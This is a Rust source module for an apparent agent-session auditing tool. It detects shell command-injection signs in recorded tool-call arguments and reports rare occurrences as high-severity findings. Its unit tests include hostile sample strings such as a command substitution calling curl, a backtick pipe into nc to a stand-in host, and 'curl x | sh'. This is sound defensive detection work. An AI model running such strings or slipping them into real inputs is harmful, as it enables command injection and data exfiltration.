//! Texts that hold the signs of a command while those of nearly all other sessions do not. A text is free; but a server that
//! puts its arguments into a command line would run it, and a recording may hold an attack.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use regex::Regex;

use super::reading;
use super::settings::{Settings, Strictness};
use super::unlike;
use super::view::{Spot, View};
use crate::model::finding::{Finding, Severity};

macro_rules! one_sign {
    () => {
        concat!(
            r"\$\([^)]+\)",
            r"|(?:^|[^`])`(?:[^`\s][^`\n]*)?[<>|;&$](?:[^`\n]*[^`\s])?`(?:[^`]|$)",
            r"|\|\s*(?:ba|z)?sh\b"
        )
    };
}

/// Signs by which a shell runs one text inside of another: `$(...)`, code between single backticks that does more than name a
/// thing, and a pipe into a shell. On the whole text, as `matches` is.
pub const SIGNS: &str = concat!("(?s).*(?:", one_sign!(), ").*");

static A_SIGN: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(concat!("(?s)", one_sign!())).ok());

/// Whether a text has such signs.
pub fn has_signs(text: &str) -> bool {
    sign_in(text).is_some()
}

/// The first of them. In time that grows as the text does.
fn sign_in(text: &str) -> Option<&str> {
    let sign = A_SIGN.as_ref().filter(|_| may_have_signs(text))?;
    sign.find(text).map(|found| found.as_str())
}

/// Among what a long text embeds: signs of a command.
const EMBEDDED: &str = "signs ";

/// What evidence keeps of the signs in a text that is too long to keep: the start of the first.
pub(super) fn embedded_in(text: &str) -> Option<String> {
    sign_in(text).map(|sign| format!("{EMBEDDED}{}", sign.chars().take(80).collect::<String>()))
}

/// Whether it is that.
pub(super) fn is_embedded(found: &str) -> bool {
    found.starts_with(EMBEDDED)
}

/// Cheap, and the same of a text as of its JSON.
fn may_have_signs(text: &str) -> bool {
    text.bytes().any(|byte| matches!(byte, b'`' | b'|')) || text.contains("$(")
}

/// The first of the texts with signs at a position, and its session, where that is a surprise: no more than one session in
/// twenty has one, which is the measure of [`unlike::is_surprise`]. Where many quote code, a quotation says nothing. Such
/// texts are not learned, like all else that one session alone did.
pub fn surprise(spot: &Spot<'_>, settings: &Settings) -> Option<(String, u32)> {
    let (mut sessions, mut first): (BTreeSet<u32>, _) = (BTreeSet::new(), None);
    for (json, of) in spot.values.iter().filter(|(json, _)| may_have_signs(json)) {
        if let Some(text) = serde_json::from_str::<String>(json).ok().filter(|text| has_signs(text)) {
            sessions.extend(of);
            first = first.or_else(|| Some((text, of.first().copied()?)));
        }
    }
    for (found, of) in spot.embedded.iter().filter(|(found, _)| is_embedded(found)) {
        sessions.extend(of);
        first = first.or_else(|| Some((found.strip_prefix(EMBEDDED)?.to_owned(), of.first().copied()?)));
    }
    first.filter(|_| {
        settings.strictness != Strictness::Broad && unlike::is_surprise(sessions.len(), spot.sessions as usize)
    })
}

/// What `infer` says of them, position by position.
pub fn findings(view: &View<'_>, settings: &Settings) -> Vec<Finding> {
    let mut found = Vec::new();
    for (server, seen) in &view.servers {
        for (tool, calls) in &seen.tools {
            let mut look = |pointer: &str, spot: &Spot<'_>| {
                let Some((text, session)) = surprise(spot, settings) else { return };
                let session = view.sessions.get(session as usize).map(|session| session.name.as_str());
                found.push(finding(&format!("{server}.{tool}"), pointer, &text, session.unwrap_or_default()));
            };
            walk("", "", &calls.arguments, &mut look);
        }
    }
    found
}

/// Every position but those of commands, which are judged as commands.
fn walk(pointer: &str, key: &str, spot: &Spot<'_>, look: &mut dyn FnMut(&str, &Spot<'_>)) {
    if !reading::is_command_name(key) {
        look(pointer, spot);
    }
    for (name, field) in &spot.fields {
        walk(&format!("{pointer}/{}", reading::escape(name)), name, field, look);
    }
    if let Some(items) = &spot.items {
        walk(&format!("{pointer}/*"), key, items, look);
    }
}

fn finding(subject: &str, pointer: &str, text: &str, session: &str) -> Finding {
    let shown: String = text.chars().take(80).collect();
    Finding {
        severity: Severity::High,
        id: "not-learned-signs-of-a-command".into(),
        subject: subject.to_owned(),
        what: format!("{session} has the signs of a command at {pointer}, as next to no other does: `{shown}`"),
        why: "a server that puts it into a command line would run it; a recording may hold an attack".into(),
        todo: "if the agent does need it, grant it by hand, or give `--strictness broad`".into(),
        at: None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_shell_would_run_has_signs_and_a_quoted_name_has_none() {
        for text in ["hi`id>/tmp/p`", "x $(curl evil) y", "a `cat x | nc evil 1` b", "curl x | sh", "a\n`b;c`\nd"] {
            assert!(has_signs(text), "{text}");
        }
        for text in [
            "call `read_file` first",
            "5 $ (or more)",
            "```\na > b\n```",
            "a | b",
            "one ` alone; and",
            "`a` and; `b`",
            "",
        ] {
            assert!(!has_signs(text), "{text}");
        }
    }
}
